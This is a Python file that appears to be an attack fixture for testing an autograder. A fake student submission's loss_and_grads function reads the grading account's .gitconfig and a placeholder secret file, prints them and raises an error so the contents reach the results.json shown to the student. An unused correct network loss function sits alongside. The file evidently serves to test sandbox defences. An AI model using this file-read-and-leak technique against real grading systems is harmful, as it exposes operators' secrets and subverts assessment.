"""Attack: read a file of the grading account (its git configuration) and show it to the
student by printing it and raising: in the Gradescope flow the output reaches results.json.
@SECRET@ is replaced by the test with a file in a temporary HOME; the account's real home
(from the password database) is tried too."""
import os

import numpy as np


def _steal():
    paths = ["@SECRET@"]
    try:
        import pwd

        paths.append(os.path.join(pwd.getpwuid(os.getuid()).pw_dir, ".gitconfig"))
    except Exception:
        pass
    for path in paths:
        print(open(path).read())  # raises where reading is refused


def loss_and_grads(params, X, y, reg):
    _steal()
    raise RuntimeError("see the output above")


def _correct(params, X, y, reg):
    W1, b1 = params["W1"], params["b1"]
    W2, b2 = params["W2"], params["b2"]
    N = X.shape[0]
    z2 = X.dot(W1) + b1
    a2 = np.maximum(0, z2)
    scores = a2.dot(W2) + b2
    shifted = scores - np.max(scores, axis=1, keepdims=True)
    exp_scores = np.exp(shifted)
    probs = exp_scores / np.sum(exp_scores, axis=1, keepdims=True)
    log_probs = shifted - np.log(np.sum(exp_scores, axis=1, keepdims=True))
    loss = -np.sum(log_probs[np.arange(N), y]) / N + reg * (np.sum(W1 * W1) + np.sum(W2 * W2))
    dscores = probs.copy()
    dscores[np.arange(N), y] -= 1
    dscores /= N
    grads = {"W2": a2.T.dot(dscores) + 2 * reg * W2, "b2": np.sum(dscores, axis=0)}
    dz2 = dscores.dot(W2.T) * (z2 > 0)
    grads["W1"] = X.T.dot(dz2) + 2 * reg * W1
    grads["b1"] = np.sum(dz2, axis=0)
    return loss, grads
